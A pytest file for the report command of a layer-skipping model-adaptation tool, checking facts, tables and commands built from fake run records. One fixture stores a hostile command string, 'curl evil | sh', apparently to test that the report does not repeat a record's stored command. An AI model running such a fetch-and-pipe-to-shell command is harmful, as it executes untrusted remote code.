"""`python -m adapt report`, on records as the commands write them."""

from __future__ import annotations

from dataclasses import asdict
from pathlib import Path
from typing import Any

import pytest
from das_gym.adapt.commands import PROGRAM, search_report
from das_gym.adapt.compare.table import Line
from das_gym.adapt.run_report import run_report
from das_gym.agents.search_experiment import run_search

from das_gym.drawing.architecture import Architecture
from das_gym.drawing.report import Answers, Asked
from das_gym.files import write_json
from das_gym.problem.config import ProblemConfig
from das_gym.registration import ASSETS
from das_gym.tables.table import SubnetTable

MASK = [0, 1, 0, 1, 0, 0, 0, 0, 1, 0, 0, 1]
NAMES = [f"{stream}.{i}" for stream in ("text", "image") for i in range(6)]
SKIPPED = [name for name, bit in zip(NAMES, MASK, strict=True) if bit]


def a_model(name: str, mask: list[int], **more: Any) -> dict[str, Any]:
    evaluation = {"metric": 0.9, "metric_name": "ranked_first", "loss": 0.25, "numbers": {}, "examples": 80}
    timed = {"latency_ms": 12.5, "latency_quartiles_ms": [11.0, 13.0], "speedup": None, "speedup_interval": None}
    costs = {"trainable_parameters": 1000, "parameters": 5000, "macs": 2_000_000, "macs_saved": 0.12}
    skipped = SKIPPED if any(mask) else []
    about = {"name": name, "mask": mask, "skipped_layers": skipped, "evaluation": evaluation, "from_package": False}
    return {**about, **costs, **timed, **more}


def a_run(folder: Path, name: str, record: dict[str, Any], config: dict[str, Any]) -> Path:
    write_json(folder / "run.json", {})
    write_json(folder / "config.json", config)
    write_json(folder / name, record)
    return folder


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Run 1 a search, run 2 what `adapt` made of it, run 3 `adapt das`, run 4 `adapt shrink`."""
    folder = tmp_path_factory.mktemp("reported")
    run_search({"env_id": "DAS-METER-VQA-Tabular-v0", "agent": "random", "evaluations": 6, "runs_dir": str(folder)})
    problem = asdict(ProblemConfig())
    models = [
        a_model("subnet", MASK, speedup=1.2, speedup_interval=[1.1, 1.3]),
        a_model("full_model", [0] * 12, from_package=True),
        a_model("baseline", [0] * 12, evaluation=None),
    ]
    adapted = {
        "problem": problem,
        "settings": {"search_run": 1},
        "models": models,
        "versions": {"python": "3.11"},
    }
    a_run(
        folder / "2", "adapt.json", adapted, {**problem, "steps": 20, "search_run": 1, "search": {}, "mask": None, "seed": 0}
    )
    turn = {"step": 5, "masks": [MASK, MASK[::-1]], "losses": [1.0, 2.0], "rewards": [0.2, 0.3], "preferences": [0.0] * 12}
    joint = {
        "problem": problem,
        "settings": {},
        "models": models[:1],
        "search": {"turns": [turn, turn]},
        "versions": {"python": "3.11"},
    }
    joint["units"] = Architecture.of(NAMES, list(range(6)) * 2).record()
    a_run(folder / "3", "das.json", joint, {**problem, "das": {"skip_num": 3}, "seed": 0})
    times = {"prefill_ms": [5.0, 4.0, 6.0], "decode_ms": [2.0, 1.0, 3.0], "decode_speedup": None}
    costs = {"low": 0.8, "high": 0.95, "loss": 0.3, "parameters": 100, "bytes": 200, "macs_saved": 0.2, **times}
    full = {"name": "full", "score": 0.9, "prefill_speedup": None, **costs}
    shrunk = {
        "settings": {"search_run": None},
        "source": "/models/big",
        "out": "/models/small",
        "mask": [0, 1],
        "layers": ["decoder.0", "decoder.1"],
        "models": [full, {**full, "name": "shrunk", "score": 0.85, "prefill_speedup": [1.5, 1.4, 1.6]}],
        "difference": {"score": -0.05, "low": -0.1, "high": 0.01},
        "answers": [{"key": i, "question": f"q{i}", "full": "a", "shrunk": "b" if i == 20 else "a"} for i in range(30)],
        "problem": {"model": "VLM", "task": "answering", "checkpoint": "/models/big"},
        "command": "curl evil | sh",
        "versions": {"python": "3.11"},
    }
    a_run(folder / "4", "shrink.json", shrunk, {})
    return folder


def test_an_adaptation_is_told_with_its_search(runs: Path):
    told = run_report(runs / "2", search_report)
    assert told.mask == MASK
    assert told.facts["ranked first on test, %"] == "90.00"
    assert told.facts["search: masks scored"] == "6"
    assert len(told.progress.rewards) == 6
    rows = dict(told.comparison.rows)
    assert told.comparison.columns == [
        "subnet",
        "full model with adapters, trained weights from the package",
        "baseline",
    ]
    assert rows["loss on test, nats"] == ["0.2500", "0.2500", "-"]
    assert rows["latency, ms (quartiles)"] == ["12.50 (11.00..13.00)"] * 3
    assert rows["times as fast as the baseline (95 % interval)"] == ["1.20 (1.10..1.30)", "-", "-"]
    table = SubnetTable.load(ASSETS / "meter_mini/vqa_table.npz")
    shares = table.layer_macs.savings / table.meta.macs_full
    assert [unit.share for unit in told.architecture.units] == pytest.approx(shares.tolist())  # from the search
    search, own = told.commands
    assert "agent=random" in search
    mask = "'mask=[0,1,0,1,0,0,0,0,1,0,0,1]'"
    assert own == f"python -m adapt with steps=20 {mask}"
    assert run_report(runs / "2", None).progress is None


def test_examples_beside_the_record_are_told(runs: Path):
    assert run_report(runs / "2", search_report).answers is None
    kept = Answers(["full model with adapters", "subnet"], [(Asked("what is it?", "an owl"), ["an owl", "a cat"])], "one")
    for run in ("2", "4"):
        path = runs / run / "examples.json"
        try:
            write_json(path, asdict(kept))
            assert run_report(runs / run, search_report).answers == kept
            write_json(path, {**asdict(kept), "models": ["subnet"]})
            with pytest.raises(ValueError, match=r"examples.json is damaged \(there are 1 models.*: remove it for a report"):
                run_report(runs / run, None)
        finally:
            path.unlink()


def test_a_joint_search_tells_its_turns(runs: Path):
    told = run_report(runs / "3", search_report)
    assert told.progress.rewards == [0.2, 0.3, 0.2, 0.3]
    assert told.progress.best == [0.2, 0.3, 0.3, 0.3]
    assert told.heat.values == [[0.5] * 12] * 2
    assert told.architecture.stages[0] == (0, 6)
    assert told.commands == ["python -m adapt das with 'das={'\"'\"'skip_num'\"'\"': 3}'"]


def test_a_shrunk_model_tells_what_it_says(runs: Path):
    told = run_report(runs / "4", search_report)
    assert told.title == "big shrunk: 1 of 2 units deleted"
    assert told.commands == ["python -m adapt shrink with checkpoint=/models/big 'mask=[0,1]'"]  # not the record's own
    assert told.facts["deleted"] == "decoder.1"
    assert told.facts["difference, points"] == "-5.0 (95 % interval -10.0..+1.0)"
    assert told.answers.rows[0] == (Asked("q20"), ["a", "b"])  # of a run from before examples.json
    assert dict(told.comparison.rows)["times as fast as the baseline (95 % interval)"] == ["-", "1.50 (1.40..1.60)"]


def test_a_comparison_tells_its_rows(runs: Path):
    def line(key: str, title: str, scores: tuple[float, ...], **more: Any) -> dict[str, Any]:
        costs = {"rate": 1e-3, "updated": 10.0, "trained": 20.0, "macs": 2e6, "saved": -0.1, "speedup": (1.5, 1.0, 2.0)}
        return asdict(Line(key, title, scores=scores, **costs, **{"skip_num": 0, "layers": ((), ()), **more}))

    trials = [{"entrant": "lora", "mask": [0] * 12}, {"entrant": "das_4", "mask": MASK}]
    record = {
        "problem": asdict(ProblemConfig()),
        "settings": {"searches": {"4": 1}},
        "metric": "accuracy",
        "trials": trials,
        "lines": [line("lora", "LoRA", (0.92, 0.94)), line("das_4", "DAS, 4 skipped", (0.9,), skip_num=4)],
        "verdict": ["DAS, 4 skipped: loses 1.0 points.", "DAS, 4 skipped: level with random masks."],
        "versions": {"python": "3.11"},
    }
    a_run(runs / "7", "compare.json", record, {"seeds": 2, "searches": {"4": 1}, "skip_nums": [4]})
    told = run_report(runs / "7", search_report)
    assert told.title == "DAS-METER-VQA-v0, methods of fine-tuning compared"
    assert told.mask == MASK
    assert told.facts["accuracy on test, %"] == "93.00 (LoRA, the best)"
    assert told.facts["DAS, 4 skipped"] == "Loses 1.0 points. Level with random masks."
    assert told.commands == ["python -m adapt compare with seeds=2 'skip_nums=[4]'"]
    assert told.comparison.title == "Method by method"
    assert told.comparison.columns[0] == "learning rate"
    assert told.comparison.rows[0][0] == "LoRA"
    assert told.comparison.rows[0][1][-2:] == ["1.50 (1.00..2.00)", "93.0 ± 1.4 (2)"]
    write_json(runs / "7/compare.json", {**record, "lines": []})
    with pytest.raises(FileNotFoundError, match=r"nothing of .*/7 has been measured yet: go on with it by resume="):
        run_report(runs / "7", None)
    write_json(runs / "7/compare.json", {"methods": [], "settings": {}})
    (runs / "7/compare.md").write_text("of `shrink compare`")
    with pytest.raises(FileNotFoundError, match=r"a report of .*/7 would say what .*/7/compare\.md says: open that"):
        run_report(runs / "7", None)
    write_json(runs / "7/compare.json", record)


def test_all_of_them_side_by_side(runs: Path, capsys: pytest.CaptureFixture[str]):
    assert PROGRAM.run(["report", "1", "2", "3", "4", "7", "with", f"runs_dir={runs}"]) == 0
    page = (runs / "report_1_2_3_4_7.html").read_text()
    assert page.count("<article") == 5
    assert page.count("<h3>Method by method</h3>") == 1
    assert "report_1_2_3_4_7.html (" in capsys.readouterr().out


def test_what_cannot_be_told(runs: Path, capsys: pytest.CaptureFixture[str]):
    a_run(runs / "5", "other.json", {}, {})
    a_run(runs / "6", "shrink.json", {"settings": {}}, {})
    for run, says in (
        ("5", "has none of search.json, adapt.json, das.json, shrink.json, compare.json"),
        ("6", "is no record of this version"),
    ):
        assert PROGRAM.run(["report", run, "with", f"runs_dir={runs}"]) == 1
        assert says in capsys.readouterr().err
